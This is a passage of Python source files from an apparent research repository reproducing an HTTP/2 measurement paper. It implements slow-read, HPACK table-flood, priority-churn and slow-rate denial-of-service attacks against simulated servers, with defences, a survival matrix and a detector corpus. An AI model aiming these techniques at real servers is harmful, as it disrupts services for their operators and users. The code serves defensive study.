            if result.profile == profile and result.vendor == vendor:
                return result
        return None

    def to_json(self) -> dict:
        return {
            "backend": self.backend,
            "guards": self.guards,
            "seed": self.seed,
            "duration": self.duration,
            "results": [result.row() for result in self.results],
        }

    def render(self) -> str:
        vendors = sorted({r.vendor for r in self.results})
        profiles = [
            name
            for name in BATTERY_PROFILES
            if any(r.profile == name for r in self.results)
        ]

        def text(result: AttackResult | None) -> str:
            if result is None or not result.connected:
                return "-"
            if result.evicted:
                reason = result.guard_reasons[0] if result.guard_reasons else "_"
                return f"evict@{result.eviction_at:.2f}s {reason}"
            return f"held {result.held_seconds:.1f}s"

        grid = {
            (name, vendor): text(self.cell(name, vendor))
            for name in profiles
            for vendor in vendors
        }
        widths = {
            vendor: max(
                [len(vendor)] + [len(grid[(name, vendor)]) for name in profiles]
            )
            + 2
            for vendor in vendors
        }
        lines = [
            f"Survival matrix — backend={self.backend} guards={self.guards} "
            f"duration={self.duration:g}s seed={self.seed}",
            "  (held Ns = connection survived; evict@T = terminated T seconds in)",
            "",
            "  "
            + "attack".ljust(20)
            + "".join(v.ljust(widths[v]) for v in vendors),
        ]
        for name in profiles:
            lines.append(
                "  "
                + name.ljust(20)
                + "".join(grid[(name, v)].ljust(widths[v]) for v in vendors)
            )
        pinned = max((r.peak_pinned_bytes for r in self.results), default=0)
        lines.append("")
        lines.append(f"  peak pinned response bytes across cells: {pinned:,}")
        return "\n".join(lines) + "\n"


def run_battery(
    vendors: list[str] | None = None,
    profiles: list[str] | None = None,
    *,
    backend: str = "sim",
    guards: str = "off",
    seed: int = 0,
    duration: float = DEFAULT_DURATION,
    guard_scale: float = 1.0,
    record_frames: bool = False,
    knobs: dict | None = None,
) -> SurvivalMatrix:
    """Sweep the battery over ``profiles`` × ``vendors``.

    ``guards`` is ``"off"`` or ``"vendor"``; ``guard_scale`` shrinks
    the vendor deadlines (loopback tests pay wall seconds per cell).
    """
    vendor_names = list(VENDOR_FACTORIES) if vendors is None else list(vendors)
    profile_names = (
        list(BATTERY_PROFILES) if profiles is None else list(profiles)
    )
    matrix = SurvivalMatrix(
        backend=backend, guards=guards, seed=seed, duration=duration
    )
    for name in profile_names:
        for vendor in vendor_names:
            guard_config: AbuseGuards | None
            if guards == "vendor":
                guard_config = vendor_guards(vendor)
                if guard_scale != 1.0:
                    guard_config = guard_config.scaled(guard_scale)
            else:
                guard_config = None
            matrix.results.append(
                run_attack(
                    BATTERY_PROFILES[name],
                    vendor,
                    backend=backend,
                    guards=guard_config,
                    seed=seed,
                    duration=duration,
                    record_frames=record_frames,
                    knobs=knobs,
                )
            )
    return matrix
