"""Priority-tree algorithmic-complexity attack (§VI point 3).

The attacker floods PRIORITY frames that build deep dependency chains
and then repeatedly relocate subtrees with exclusive moves — each move
forces the server to restructure the tree, and an unbounded tree makes
every scheduling decision walk an attacker-controlled structure.

Defence: bound the tracked priority state (nghttp2's strategy; our
:class:`~repro.h2.priority.PriorityTree` evicts the deepest leaf past
``max_tracked_streams``).

Measured quantities: tracked-node count, maximum tree depth, and the
tree-mutation count the attacker forced per frame it sent.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.clock import Simulation
from repro.net.transport import LinkProfile, Network
from repro.scope.client import ScopeClient
from repro.servers.profiles import ServerProfile
from repro.servers.site import Site, deploy_site
from repro.servers.website import Resource, Website


@dataclass
class PriorityChurnReport:
    frames_sent: int = 0
    tracked_streams: int = 0
    max_depth: int = 0
    tree_operations: int = 0

    @property
    def operations_per_frame(self) -> float:
        return self.tree_operations / self.frames_sent if self.frames_sent else 0.0


def run_priority_churn_attack(
    frames: int = 800,
    max_tracked_streams: int = 1000,
    seed: int = 0,
) -> PriorityChurnReport:
    """Send ``frames`` PRIORITY frames building and churning a deep chain."""
    sim = Simulation()
    network = Network(sim, seed=seed)
    profile = ServerProfile(
        scheduler_mode="strict",
        max_tracked_priority_streams=max_tracked_streams,
        processing_delay=0.001,
        processing_jitter=0.0,
    )
    site = Site(
        domain="churn.test",
        profile=profile,
        website=Website([Resource("/", 100, "text/html")]),
        link=LinkProfile(rtt=0.005, bandwidth=100e6),
    )
    server = deploy_site(network, site)

    attacker = ScopeClient(network, "churn.test")
    report = PriorityChurnReport()
    if not attacker.establish_h2():
        return report

    # Phase 1: a maximally deep chain of idle streams (PRIORITY frames
    # may reference streams that never open — free state on the server).
    chain = [2 * i + 1 for i in range(frames // 2)]
    previous = 0
    for sid in chain:
        attacker.send_priority(sid, depends_on=previous, weight=256)
        previous = sid
        report.frames_sent += 1

    # Phase 2: churn — relocate the deepest nodes to the root and back
    # with exclusive moves, forcing restructures each time, until the
    # frame budget is spent.
    index = 0
    while report.frames_sent < frames and chain:
        sid = chain[-(1 + index % min(len(chain), frames // 4 or 1))]
        attacker.send_priority(
            sid, depends_on=0, weight=1, exclusive=index % 2 == 0
        )
        report.frames_sent += 1
        index += 1

    sim.run(until=sim.now + 5.0)

    conn = server.connections[0].conn
    if conn is not None:
        tree = conn.priority_tree
        report.tracked_streams = len(tree)
        report.tree_operations = tree.operations
        report.max_depth = max(
            (tree.depth_of(sid) for sid in chain if sid in tree), default=0
        )

    attacker.close()
    return report
