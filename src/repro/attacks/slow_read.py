"""Slow-read flow-control DoS (§V-D1 / §VI point 2).

The attacker announces a tiny SETTINGS_INITIAL_WINDOW_SIZE, requests
large objects on many streams, and never grants window: the server
generates every response and must buffer it all, pinned behind 1-octet
windows.  The measured quantity is the server's buffered response bytes
over the attack — the memory a real server cannot release.

Defence (the paper's proposal): a lower bound on acceptable
SETTINGS_INITIAL_WINDOW_SIZE; the server answers abusive announcements
with GOAWAY(ENHANCE_YOUR_CALM) before committing memory.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.h2 import events as ev
from repro.net.clock import Simulation
from repro.net.transport import LinkProfile, Network
from repro.scope.client import ScopeClient
from repro.servers.profiles import ServerProfile
from repro.servers.site import Site, deploy_site
from repro.servers.website import Resource, Website


@dataclass
class SlowReadReport:
    """Outcome of one slow-read run."""

    streams: int = 0
    object_size: int = 0
    #: Response bytes the server held, sampled over the attack.
    pinned_bytes_over_time: list[tuple[float, int]] = field(default_factory=list)
    peak_pinned_bytes: int = 0
    #: Whether the server tore the connection down (defence fired).
    connection_refused: bool = False

    @property
    def theoretical_max(self) -> int:
        return self.streams * self.object_size


def _attack_website(object_size: int, objects: int) -> Website:
    site = Website()
    for i in range(objects):
        site.add(Resource(f"/victim/{i}.bin", object_size, "application/octet-stream"))
    site.add(Resource("/", 1_000, "text/html"))
    return site


def run_slow_read_attack(
    streams: int = 32,
    object_size: int = 200_000,
    sframe: int = 1,
    min_accepted_initial_window: int = 0,
    duration: float = 10.0,
    seed: int = 0,
) -> SlowReadReport:
    """Run the attack against a fresh server.

    ``min_accepted_initial_window`` enables the defence; with the
    default 0 the server behaves like every implementation the paper
    measured (fully exposed).
    """
    sim = Simulation()
    network = Network(sim, seed=seed)
    profile = ServerProfile(
        settings={3: max(128, streams + 8), 4: 65_536, 5: 16_384},
        min_accepted_initial_window=min_accepted_initial_window,
        processing_delay=0.002,
        processing_jitter=0.0,
    )
    site = Site(
        domain="victim.test",
        profile=profile,
        website=_attack_website(object_size, streams),
        link=LinkProfile(rtt=0.03, bandwidth=50e6),
    )
    server = deploy_site(network, site)

    report = SlowReadReport(streams=streams, object_size=object_size)
    attacker = ScopeClient(
        network,
        "victim.test",
        settings={4: sframe},  # SETTINGS_INITIAL_WINDOW_SIZE
        auto_window_update=False,
    )
    if not attacker.establish_h2():
        report.connection_refused = True
        return report

    for i in range(streams):
        attacker.request(f"/victim/{i}.bin")

    # Sample the pinned memory while the attacker stays silent.
    step = duration / 20
    for _ in range(20):
        sim.run(until=sim.now + step)
        pinned = server.pending_response_bytes
        report.pinned_bytes_over_time.append((sim.now, pinned))
        report.peak_pinned_bytes = max(report.peak_pinned_bytes, pinned)
        if any(isinstance(te.event, ev.GoAwayReceived) for te in attacker.events):
            report.connection_refused = True

    attacker.close()
    return report
