"""Labelled trace corpora for detector scoring (ISSUE 7 tentpole c).

The detector (:mod:`repro.analysis.detection`) is judged on traffic it
did not shape: *benign* connection timelines come from full probe-suite
scans of each vendor engine — including chaos-campaign scans where the
network itself resets, stalls and truncates connections — and *attack*
timelines come from battery runs with the abuse guards off, so each
attack plays out to its full length.

Everything is recorded server-side
(:class:`~repro.scope.trace.ConnectionTimeline`), deterministic in the
seed, and labelled with the attack profile's name (or ``None`` for
benign), which is exactly what
:func:`repro.analysis.detection.score_corpus` consumes.

The benign corpus is deliberately adversarial for a detector: the probe
suite announces tiny windows, sends deliberate protocol violations and
batches of PINGs, and chaos scans add mid-connection mutilation — a
naive rule set flags it readily.
"""

from __future__ import annotations

from repro.net.clock import Simulation
from repro.net.faults import FaultPlan
from repro.net.transport import Network
from repro.scope.scanner import probe_target
from repro.scope.trace import ConnectionTimeline
from repro.servers.site import Site, deploy_site
from repro.servers.vendors import VENDOR_FACTORIES

from repro.attacks.battery import BATTERY_PROFILES, run_attack

#: Chaos spec for the faulty benign scans: resets during the hello,
#: mid-response truncation and a recoverable stall.
CHAOS_SPEC = "reset:0.2,truncate(600):0.2,stall(1.5):0.2"


def benign_timelines(
    vendors: list[str] | None = None,
    seed: int = 0,
    chaos: bool = True,
) -> list[ConnectionTimeline]:
    """Probe-suite traffic against each vendor, frames recorded.

    One clean scan per vendor, plus (``chaos=True``) one scan through a
    faulty network.  Labels stay ``None``.
    """
    names = list(VENDOR_FACTORIES) if vendors is None else list(vendors)
    plans: list[FaultPlan | None] = [None]
    if chaos:
        plans.append(FaultPlan.parse(CHAOS_SPEC, seed=seed))
    timelines: list[ConnectionTimeline] = []
    for vendor in names:
        for plan in plans:
            sim = Simulation()
            network = Network(sim, seed=seed, fault_plan=plan)
            site = Site(domain=f"{vendor}.corpus.test", profile=VENDOR_FACTORIES[vendor]())
            server = deploy_site(network, site, record_frames=True)
            probe_target(network, site.domain, seed=seed)
            sim.run(until=sim.now + 1.0)
            timelines.extend(server.timelines)
    return timelines


def attack_timelines(
    vendors: list[str] | None = None,
    profiles: list[str] | None = None,
    seed: int = 0,
    duration: float = 16.0,
) -> list[ConnectionTimeline]:
    """Battery traffic, guards off, labelled with each profile's name."""
    vendor_names = list(VENDOR_FACTORIES) if vendors is None else list(vendors)
    profile_names = list(BATTERY_PROFILES) if profiles is None else list(profiles)
    timelines: list[ConnectionTimeline] = []
    for name in profile_names:
        for vendor in vendor_names:
            result = run_attack(
                BATTERY_PROFILES[name],
                vendor,
                guards=None,
                seed=seed,
                duration=duration,
                record_frames=True,
            )
            timelines.extend(result.timelines)
    return timelines


def build_corpus(
    vendors: list[str] | None = None,
    profiles: list[str] | None = None,
    seed: int = 0,
    duration: float = 16.0,
    chaos: bool = True,
) -> list[ConnectionTimeline]:
    """Benign + attack timelines, ready for ``score_corpus``."""
    return benign_timelines(vendors, seed=seed, chaos=chaos) + attack_timelines(
        vendors, profiles, seed=seed, duration=duration
    )
