"""HPACK dynamic-table flooding (§VI point 5).

Two memory surfaces exist per connection:

* the server's **decoder** table, sized by the server's *own*
  SETTINGS_HEADER_TABLE_SIZE — the paper observes every server keeps
  the 4,096-octet default precisely because "large table size may
  consume more system resource if an attacker keeps sending different
  headers";
* the server's **encoder** table, whose *limit* the attacker controls
  by announcing a huge SETTINGS_HEADER_TABLE_SIZE: a server that
  dutifully adopts the announcement and emits varied response headers
  grows without bound.

The attack floods both: random request headers against the decoder
table, and varied responses (cookie-setting server) against the
encoder table.  Defences: the default 4,096 decoder bound, and the
:attr:`ServerProfile.max_peer_header_table_size` encoder cap (RFC 7541
permits any size up to the peer's announcement).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.h2 import events as ev
from repro.net.clock import Simulation
from repro.net.transport import LinkProfile, Network
from repro.scope.client import ScopeClient
from repro.servers.profiles import ServerProfile
from repro.servers.site import Site, deploy_site
from repro.servers.website import Resource, Website


@dataclass
class TableFloodReport:
    requests: int = 0
    announced_table_size: int = 0
    #: (time, decoder_bytes, encoder_bytes) samples on the server.
    table_bytes_over_time: list[tuple[float, int, int]] = field(default_factory=list)
    peak_decoder_bytes: int = 0
    peak_encoder_bytes: int = 0
    server_header_table_limit: int = 0


def run_table_flood_attack(
    requests: int = 60,
    announced_table_size: int = 2**24,
    server_table_size: int = 4_096,
    max_peer_header_table_size: int | None = None,
    seed: int = 0,
) -> TableFloodReport:
    """Flood a server's HPACK tables with high-entropy headers."""
    sim = Simulation()
    network = Network(sim, seed=seed)
    rng = random.Random(seed)

    profile = ServerProfile(
        settings={1: server_table_size, 3: 256, 4: 65_536, 5: 16_384},
        # The server varies its responses (a unique x-request-id each
        # time, which unlike set-cookie *is* entered into the dynamic
        # table) — the worst case for encoder-table growth.
        response_header_noise=1.0,
        max_peer_header_table_size=max_peer_header_table_size,
        processing_delay=0.001,
        processing_jitter=0.0,
    )
    website = Website([Resource("/", 500, "text/html")])
    site = Site(
        domain="flood.test",
        profile=profile,
        website=website,
        link=LinkProfile(rtt=0.01, bandwidth=100e6),
    )
    server = deploy_site(network, site)

    report = TableFloodReport(
        requests=requests,
        announced_table_size=announced_table_size,
        server_header_table_limit=server_table_size,
    )
    attacker = ScopeClient(
        network,
        "flood.test",
        settings={1: announced_table_size},  # SETTINGS_HEADER_TABLE_SIZE
        auto_window_update=True,
    )
    if not attacker.establish_h2():
        return report

    for i in range(requests):
        junk = [
            (f"x-flood-{rng.getrandbits(48):012x}", f"{rng.getrandbits(256):064x}")
            for _ in range(4)
        ]
        sid = attacker.request("/", extra_headers=junk)
        attacker.wait_for(
            lambda: any(
                isinstance(te.event, ev.StreamEnded) and te.event.stream_id == sid
                for te in attacker.events
            ),
            timeout=5,
        )
        conn = server.connections[0].conn
        if conn is not None:
            decoder_bytes = conn.decoder.table.size
            encoder_bytes = conn.encoder.table.size
            report.table_bytes_over_time.append(
                (sim.now, decoder_bytes, encoder_bytes)
            )
            report.peak_decoder_bytes = max(report.peak_decoder_bytes, decoder_bytes)
            report.peak_encoder_bytes = max(report.peak_encoder_bytes, encoder_bytes)

    attacker.close()
    return report
