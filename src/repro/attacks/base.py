"""The unified attack contract (ISSUE 7 satellite).

Every attack in :mod:`repro.attacks` — the three §VI resource
studies that predate the battery and the six slow-rate behaviour
profiles — is described by one :class:`AttackProfile` and produces one
:class:`AttackResult`, so the battery runner, the CLI and the corpus
builder can treat them uniformly.

Two kinds exist:

* **battery** profiles carry a ``behaviour`` callable driven by
  :func:`repro.attacks.battery.run_attack` against any vendor engine
  on either transport backend;
* **legacy** profiles wrap the original §VI study runners
  (:func:`run_slow_read_attack` and friends) whose knobs predate the
  vendor/backend axes; their ad-hoc reports ride along in
  :attr:`AttackResult.details`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable


@dataclass
class AttackResult:
    """Outcome of one attack run against one server."""

    profile: str
    vendor: str
    backend: str = "sim"
    guards_enabled: bool = False
    #: Attack length the runner aimed for (seconds).
    duration: float = 0.0
    #: Whether a connection (and, where applicable, h2) was established.
    connected: bool = False
    #: Connection still open when the attack window ended.
    survived: bool = False
    #: Seconds the connection was held open, from established to
    #: eviction (or to the end of the attack window).
    held_seconds: float = 0.0
    #: The server terminated us (guard breach or native defence).
    evicted: bool = False
    #: Seconds from connection established to observed eviction.
    eviction_at: float | None = None
    #: The guard deadline the eviction was expected within (None when
    #: guards were off or no knob covers this attack).
    eviction_deadline: float | None = None
    goaway_observed: bool = False
    goaway_error: int | None = None
    goaway_debug: bytes = b""
    #: Guard breaches the server logged (empty on guards-off runs).
    guard_reasons: list[str] = field(default_factory=list)
    frames_sent: int = 0
    # -- resource peaks sampled on the server --------------------------
    peak_pinned_bytes: int = 0
    peak_stream_states: int = 0
    peak_hpack_bytes: int = 0
    peak_assembly_bytes: int = 0
    #: (elapsed_seconds, pinned_response_bytes) samples over the run.
    samples: list[tuple[float, int]] = field(default_factory=list)
    #: Legacy report object (the pre-battery attacks) or extra metrics.
    details: Any = None
    #: Server-side :class:`~repro.scope.trace.ConnectionTimeline`s when
    #: the run recorded frames (corpus building); never serialized.
    timelines: list = field(default_factory=list)

    def row(self) -> dict:
        """JSON-able summary row (deterministic in the seed on sim)."""
        return {
            "profile": self.profile,
            "vendor": self.vendor,
            "backend": self.backend,
            "guards": self.guards_enabled,
            "connected": self.connected,
            "survived": self.survived,
            "held_seconds": round(self.held_seconds, 4),
            "evicted": self.evicted,
            "eviction_at": (
                None if self.eviction_at is None else round(self.eviction_at, 4)
            ),
            "eviction_deadline": self.eviction_deadline,
            "goaway": self.goaway_observed,
            "goaway_error": self.goaway_error,
            "goaway_debug": self.goaway_debug.decode("latin-1"),
            "guard_reasons": list(self.guard_reasons),
            "frames_sent": self.frames_sent,
            "peak_pinned_bytes": self.peak_pinned_bytes,
            "peak_stream_states": self.peak_stream_states,
            "peak_hpack_bytes": self.peak_hpack_bytes,
            "peak_assembly_bytes": self.peak_assembly_bytes,
        }


@dataclass(frozen=True)
class AttackProfile:
    """One attack as a named, runnable client behaviour."""

    name: str
    summary: str
    #: ``"slow-rate"`` (the battery family), ``"flood"`` (rate abuse)
    #: or ``"resource"`` (the legacy §VI memory/CPU studies).
    kind: str = "slow-rate"
    #: Battery behaviour: drives an ``AttackRun`` (see battery module).
    behaviour: Callable | None = None
    #: SETTINGS the attacking client announces.
    client_settings: dict[int, int] = field(default_factory=dict)
    auto_window_update: bool = False
    #: The engine guard knob expected to evict this attack, for the
    #: survival matrix's deadline column (None = rate-window based).
    guard_knob: str | None = None
    #: Legacy runner returning an :class:`AttackResult` directly.
    legacy_runner: Callable[..., AttackResult] | None = None

    @property
    def is_battery(self) -> bool:
        return self.behaviour is not None

    def run(self, vendor: str = "nginx", **kwargs) -> AttackResult:
        """Run this attack; battery profiles accept the full axis set
        (vendor/backend/guards/duration/seed), legacy ones their
        original knobs."""
        if self.behaviour is not None:
            from repro.attacks.battery import run_attack

            return run_attack(self, vendor, **kwargs)
        assert self.legacy_runner is not None, self.name
        kwargs.pop("vendor", None)
        return self.legacy_runner(**kwargs)
