"""DoS attack studies and the slow-rate battery.

The paper repeatedly flags that HTTP/2's new features are exploitable:

* **flow control** — "an adversary could launch DoS attacks like
  malicious TCP receiver by setting SETTINGS_INITIAL_WINDOW_SIZE to a
  small value so that the server cannot quickly send out the response
  frames and release the corresponding memory" (§V-D1, §VI point 2);
* **priority** — "malicious clients may exploit this mechanism to
  launch algorithmic complexity attacks (e.g., force the server to
  frequently reconstruct the dependency tree)" (§VI point 3);
* **header compression** — "setting SETTINGS_HEADER_TABLE_SIZE ... to a
  large value, and then using randomly-generated headers to fill up the
  table" (§VI point 5).

Two generations live here behind one contract
(:class:`~repro.attacks.base.AttackProfile` /
:class:`~repro.attacks.base.AttackResult`):

* the original §VI **resource studies** (slow-read, HPACK table flood,
  priority churn) with their ad-hoc reports preserved in
  ``AttackResult.details``;
* the **slow-rate battery** (:mod:`repro.attacks.battery`) — slow
  preface, CONTINUATION trickle, zero-window stall, PING/SETTINGS
  floods, stream-reset churn — runnable against every vendor engine
  over the simulated or loopback backend, with or without the engines'
  abuse guards.

``ATTACK_PROFILES`` indexes all of them by name.
"""

from repro.attacks.base import AttackProfile, AttackResult
from repro.attacks.battery import (
    BATTERY_PROFILES,
    SurvivalMatrix,
    run_attack,
    run_battery,
)
from repro.attacks.priority_churn import (
    PriorityChurnReport,
    run_priority_churn_attack,
)
from repro.attacks.slow_read import SlowReadReport, run_slow_read_attack
from repro.attacks.table_flood import TableFloodReport, run_table_flood_attack


def _legacy_slow_read(**kwargs) -> AttackResult:
    report = run_slow_read_attack(**kwargs)
    result = AttackResult(
        profile="slow_read",
        vendor="generic",
        duration=kwargs.get("duration", 10.0),
        guards_enabled=kwargs.get("min_accepted_initial_window", 0) > 0,
        connected=True,
        evicted=report.connection_refused,
        survived=not report.connection_refused,
        peak_pinned_bytes=report.peak_pinned_bytes,
        samples=list(report.pinned_bytes_over_time),
        details=report,
    )
    result.held_seconds = result.duration if result.survived else 0.0
    return result


def _legacy_table_flood(**kwargs) -> AttackResult:
    report = run_table_flood_attack(**kwargs)
    return AttackResult(
        profile="table_flood",
        vendor="generic",
        guards_enabled=kwargs.get("max_peer_header_table_size") is not None,
        connected=True,
        survived=True,
        frames_sent=report.requests,
        peak_hpack_bytes=report.peak_decoder_bytes,
        samples=[(at, dec) for at, dec, _enc in report.table_bytes_over_time],
        details=report,
    )


def _legacy_priority_churn(**kwargs) -> AttackResult:
    report = run_priority_churn_attack(**kwargs)
    return AttackResult(
        profile="priority_churn",
        vendor="generic",
        guards_enabled=kwargs.get("max_tracked_streams", 1000) is not None,
        connected=True,
        survived=True,
        frames_sent=report.frames_sent,
        peak_stream_states=report.tracked_streams,
        details=report,
    )


#: The §VI resource studies under the unified contract.
LEGACY_PROFILES: dict[str, AttackProfile] = {
    "slow_read": AttackProfile(
        name="slow_read",
        summary="tiny-window slow read pinning response buffers (§V-D1)",
        kind="resource",
        legacy_runner=_legacy_slow_read,
    ),
    "table_flood": AttackProfile(
        name="table_flood",
        summary="HPACK dynamic-table flood via huge announced size (§VI.5)",
        kind="resource",
        legacy_runner=_legacy_table_flood,
    ),
    "priority_churn": AttackProfile(
        name="priority_churn",
        summary="dependency-tree churn via PRIORITY spam (§VI.3)",
        kind="resource",
        legacy_runner=_legacy_priority_churn,
    ),
}

#: Every attack in the package, battery and legacy, keyed by name.
ATTACK_PROFILES: dict[str, AttackProfile] = {
    **BATTERY_PROFILES,
    **LEGACY_PROFILES,
}

__all__ = [
    "ATTACK_PROFILES",
    "AttackProfile",
    "AttackResult",
    "BATTERY_PROFILES",
    "LEGACY_PROFILES",
    "PriorityChurnReport",
    "SlowReadReport",
    "SurvivalMatrix",
    "TableFloodReport",
    "run_attack",
    "run_battery",
    "run_priority_churn_attack",
    "run_slow_read_attack",
    "run_table_flood_attack",
]
