"""DoS attack studies from the paper's Discussion (Section VI).

The paper repeatedly flags that HTTP/2's new features are exploitable:

* **flow control** — "an adversary could launch DoS attacks like
  malicious TCP receiver by setting SETTINGS_INITIAL_WINDOW_SIZE to a
  small value so that the server cannot quickly send out the response
  frames and release the corresponding memory" (§V-D1, §VI point 2);
* **priority** — "malicious clients may exploit this mechanism to
  launch algorithmic complexity attacks (e.g., force the server to
  frequently reconstruct the dependency tree)" (§VI point 3);
* **header compression** — "setting SETTINGS_HEADER_TABLE_SIZE ... to a
  large value, and then using randomly-generated headers to fill up the
  table" (§VI point 5).

Each module here implements the attack against the simulated servers,
measures the resource it pins, and evaluates the defence the paper
proposes (window lower bounds; bounded priority state; table-size
caps).  These are *studies of the documented attacks in a simulated
environment* — the measurements quantify exposure and validate
mitigations.
"""

from repro.attacks.slow_read import SlowReadReport, run_slow_read_attack
from repro.attacks.table_flood import TableFloodReport, run_table_flood_attack
from repro.attacks.priority_churn import (
    PriorityChurnReport,
    run_priority_churn_attack,
)

__all__ = [
    "PriorityChurnReport",
    "SlowReadReport",
    "TableFloodReport",
    "run_priority_churn_attack",
    "run_slow_read_attack",
    "run_table_flood_attack",
]
