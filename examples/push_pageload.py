#!/usr/bin/env python
"""Reproduce Fig. 3: page load time with server push on vs off.

Builds fifteen push-capable origins with two-wave dependency graphs
(HTML -> assets -> imports), replays 30 browser visits per site and
configuration over the simulated network, and reports median page load
times.  Push collapses discovery round trips, so most sites load
faster with it — the paper's observation.

Run with::

    python examples/push_pageload.py [visits]
"""

import sys

from repro.analysis.pageload import render_waterfall, visit_page
from repro.experiments import fig3
from repro.experiments.fig3 import _build_push_site
from repro.net import Network, Simulation
from repro.servers.site import deploy_site


def show_waterfalls() -> None:
    """One example site's waterfall, push off vs on."""
    import random

    site = _build_push_site("waterfall.example", random.Random(1))
    for enable_push in (False, True):
        sim = Simulation()
        network = Network(sim, seed=1)
        deploy_site(network, site)
        result = visit_page(network, site, enable_push=enable_push)
        print(f"waterfall with push {'on' if enable_push else 'off'} "
              f"(PLT {result.plt:.3f}s):")
        print(render_waterfall(result))


def main() -> None:
    visits = int(sys.argv[1]) if len(sys.argv) > 1 else 30
    show_waterfalls()
    result = fig3.run(visits=visits, seed=3)
    print(result.text)


if __name__ == "__main__":
    main()
