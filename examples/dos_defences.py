#!/usr/bin/env python
"""Run the paper's §VI DoS attack studies with and without defences.

The Discussion section of the paper warns that three HTTP/2 features
are exploitable: flow control (slow-read memory pinning), header
compression (dynamic-table flooding) and stream priority (dependency-
tree complexity attacks).  This example launches each attack against a
simulated server, reports the resource it pins, and shows the proposed
mitigation working.

Run with::

    python examples/dos_defences.py
"""

from repro.attacks import (
    run_priority_churn_attack,
    run_slow_read_attack,
    run_table_flood_attack,
)
from repro.experiments import attacks_study


def narrate_slow_read() -> None:
    print("== slow-read (flow-control) attack ==")
    exposed = run_slow_read_attack(streams=32, object_size=200_000, sframe=1)
    print(
        f"  attacker: 32 streams, SETTINGS_INITIAL_WINDOW_SIZE=1\n"
        f"  server memory pinned: {exposed.peak_pinned_bytes:,} bytes "
        f"of a possible {exposed.theoretical_max:,}"
    )
    for at, pinned in exposed.pinned_bytes_over_time[::5]:
        print(f"    t={at:5.1f}s  pinned={pinned:,}")
    defended = run_slow_read_attack(
        streams=32, object_size=200_000, sframe=1, min_accepted_initial_window=1024
    )
    print(
        f"  with a window lower bound: pinned={defended.peak_pinned_bytes:,}, "
        f"connection refused={defended.connection_refused}\n"
    )


def narrate_table_flood() -> None:
    print("== HPACK table-flooding attack ==")
    exposed = run_table_flood_attack(requests=200)
    print(
        f"  decoder table peak: {exposed.peak_decoder_bytes:,} bytes "
        "(bounded by the server's own 4,096 SETTINGS_HEADER_TABLE_SIZE "
        "- which is why §V-C finds every server keeps the default)"
    )
    print(f"  encoder table peak: {exposed.peak_encoder_bytes:,} bytes and growing")
    defended = run_table_flood_attack(requests=200, max_peer_header_table_size=4096)
    print(f"  with an encoder cap: {defended.peak_encoder_bytes:,} bytes\n")


def narrate_priority_churn() -> None:
    print("== priority-tree churn attack ==")
    exposed = run_priority_churn_attack(frames=800, max_tracked_streams=100_000)
    print(
        f"  unbounded server: {exposed.tracked_streams:,} tracked streams, "
        f"tree depth {exposed.max_depth}"
    )
    defended = run_priority_churn_attack(frames=800, max_tracked_streams=100)
    print(
        f"  bounded server:   {defended.tracked_streams:,} tracked streams, "
        f"tree depth {defended.max_depth}\n"
    )


if __name__ == "__main__":
    narrate_slow_read()
    narrate_table_flood()
    narrate_priority_churn()
    print(attacks_study.run().text)
