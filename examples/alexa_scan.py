#!/usr/bin/env python
"""Scan a synthetic Alexa population, as the paper's §V-B..F does.

Generates a population whose server mix, SETTINGS values and behaviour
quirks are sampled from the paper's published aggregates, scans every
site with H2Scope, and prints the adoption, server-family, SETTINGS,
flow-control, priority and push results side by side with the paper's
numbers.

Run with::

    python examples/alexa_scan.py [n_sites] [experiment]

``n_sites`` (default 300) is the number of HEADERS-returning sites to
generate; the output extrapolates counts back to the paper's population
(44,390 sites for experiment 1, 64,299 for experiment 2).
"""

import sys

from repro.experiments import (
    adoption,
    flowcontrol_scan,
    priority_scan,
    push_scan,
    settings_tables,
    table4,
)


def main() -> None:
    n_sites = int(sys.argv[1]) if len(sys.argv) > 1 else 300
    experiment = int(sys.argv[2]) if len(sys.argv) > 2 else 1

    for module in (
        adoption,
        table4,
        settings_tables,
        flowcontrol_scan,
        priority_scan,
        push_scan,
    ):
        result = module.run(experiment=experiment, n_sites=n_sites, seed=7)
        print(result.text)
        print("=" * 72)


if __name__ == "__main__":
    main()
