#!/usr/bin/env python
"""Reproduce Fig. 6: RTT by HTTP/2 PING, ICMP, TCP and HTTP/1.1.

Samples ten sites per popular server family, runs the four estimators
against each over the simulated WAN, and plots the CDFs.  HTTP/2 PING
turns around on the protocol fast path and tracks the kernel-level
estimators (ICMP echo, TCP SYN/SYN-ACK); an HTTP/1.1 request includes
server-side request processing and lands visibly to the right.

Run with::

    python examples/rtt_comparison.py
"""

from repro.experiments import fig6


def main() -> None:
    result = fig6.run(sites_per_family=10, seed=11)
    print(result.text)


if __name__ == "__main__":
    main()
