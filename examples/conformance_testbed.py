#!/usr/bin/env python
"""Reproduce Table III: the six-vendor conformance matrix.

Deploys Nginx, LiteSpeed, H2O, nghttpd, Tengine and Apache behaviour
models in a testbed with large web objects (the paper's §III-A1
requirement) and characterizes all fourteen features, diffing every
cell against the published table.

Run with::

    python examples/conformance_testbed.py
"""

from repro.experiments import table3


def main() -> None:
    result = table3.run()
    print(result.text)
    if result.data["mismatches"]:
        raise SystemExit(f"deviations from the paper: {result.data['mismatches']}")


if __name__ == "__main__":
    main()
