#!/usr/bin/env python
"""Probe a live HTTP/2 server over real TCP sockets.

The same probe suite that characterizes the simulated testbed runs
unchanged against real endpoints: every probe goes through a
:class:`~repro.scope.session.ProbeSession`, and here the session is
backed by :class:`~repro.net.socket_backend.SocketBackend` instead of
the simulator.  The output is the server's Table III feature-matrix
column.

Run with::

    python examples/probe_real_server.py HOST:PORT [--domain NAME]

e.g. ``python examples/probe_real_server.py 203.0.113.7:443 --domain
example.com`` to probe a server by address while offering ``NAME`` in
the TLS hello and ``:authority``.  If the target is unreachable the
script skips gracefully (exit 0) — useful on offline machines and CI.

With no target, the script demonstrates itself: it serves the
simulated Nginx engine over a real loopback TCP socket (the bridge
from :mod:`repro.servers.loopback`) and probes that.  Everything the
probes see is then real wire bytes on a real socket.

Note the cell semantics: the matrix expects the testbed object layout
(``/large/*.bin``, ``/medium/*.bin``).  Against an arbitrary origin the
transfer-shaped rows (multiplexing, flow control, priorities) degrade
to "no response" / "no support" rather than failing.
"""

import argparse
import socket
import sys

from repro.experiments.table3 import ROWS, matrix_cells
from repro.net.socket_backend import SocketBackend
from repro.scope.session import ProbeSession


